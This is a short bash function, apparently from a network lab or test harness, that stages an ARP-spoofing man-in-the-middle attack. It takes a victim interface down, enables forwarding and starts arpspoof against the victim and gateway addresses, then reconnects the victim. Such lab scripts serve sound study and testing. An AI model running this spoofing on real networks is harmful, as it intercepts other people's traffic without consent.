# shellcheck shell=bash
# The spoofing runs already when the victim comes (back) to the network.
start() { ns sw ip link set p-victim down; sleep 4; att_forward
  sbg attacker arpspoof-v arpspoof -i eth0 -t $VICTIM_IP $GW_IP
  sleep 1; ns sw ip link set p-victim up; victim_dhcp; mark; victim_touch; }
